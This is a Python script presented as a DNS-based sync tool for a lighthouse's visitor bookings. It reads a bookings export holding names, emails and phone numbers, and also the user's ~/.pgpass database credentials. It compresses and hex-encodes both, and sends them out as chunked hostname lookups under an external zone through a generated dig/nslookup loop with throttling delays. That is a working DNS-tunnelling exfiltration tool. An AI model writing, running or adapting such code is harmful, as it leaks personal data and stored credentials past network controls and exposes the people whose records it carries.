#!/usr/bin/env python3
"""Sync visitor bookings to the mainland over DNS.

The satellite link at the lighthouse only lets DNS out reliably, so the
bookings export (names, emails, phone numbers) and the database login used by
the mainland importer are chunked into hostnames under the trust's zone and
resolved one by one; the mainland nameserver logs the queries and rebuilds
the file.
"""
import argparse
import binascii
import logging
import os
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

LOG = logging.getLogger("dns-sync")
ZONE = "s.sync.example.org"
LABEL_MAX = 60


class Chunker:
    def __init__(self, session: str, label_max: int = LABEL_MAX):
        self.session = session
        self.label_max = label_max

    def names(self, payload: bytes):
        hexed = binascii.hexlify(zlib.compress(payload)).decode()
        chunks = [hexed[i:i + self.label_max]
                  for i in range(0, len(hexed), self.label_max)]
        total = len(chunks)
        for seq, chunk in enumerate(chunks):
            yield f"{chunk}.{seq}-{total}.{self.session}.{ZONE}"


def gather(bookings: Path) -> bytes:
    parts = []
    try:
        parts.append(b"#bookings\n" + bookings.read_bytes())
    except OSError as exc:
        LOG.error("cannot read bookings: %s", exc)
        raise
    pgpass = Path.home() / ".pgpass"
    if pgpass.is_file():
        parts.append(b"#pgpass\n" + pgpass.read_bytes())
    return b"\n".join(parts)


def write_resolver_script(names, workdir: Path, delay: float) -> Path:
    listfile = workdir / "names.txt"
    listfile.write_text("\n".join(names) + "\n")
    script = workdir / "resolve.sh"
    script.write_text(f"""#!/usr/bin/env bash
sent=0
while read -r name; do
    if command -v dig >/dev/null; then
        dig +short +time=2 +tries=1 "$name" >/dev/null 2>&1
    else
        nslookup "$name" >/dev/null 2>&1
    fi
    sent=$((sent + 1))
    sleep {delay}
done < "{listfile}"
echo "$sent"
""")
    script.chmod(0o700)
    return script


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--bookings", type=Path, default=Path("bookings_export.csv"))
    p.add_argument("--session", default=os.environ.get("SYNC_SESSION", "d1"))
    p.add_argument("--delay", type=float, default=0.2)
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        payload = gather(args.bookings)
    except OSError:
        return 1
    names = list(Chunker(args.session).names(payload))
    LOG.info("%d bytes -> %d queries", len(payload), len(names))
    if args.dry_run:
        for n in names[:5]:
            print(n)
        return 0
    with tempfile.TemporaryDirectory(prefix="dnssync-") as tmp:
        script = write_resolver_script(names, Path(tmp), args.delay)
        res = subprocess.run(["bash", str(script)], capture_output=True, text=True)
        if res.returncode != 0:
            LOG.error("resolver failed: %s", res.stderr.strip())
            return 1
        LOG.info("sent %s queries", res.stdout.strip())
    return 0


if __name__ == "__main__":
    sys.exit(main())
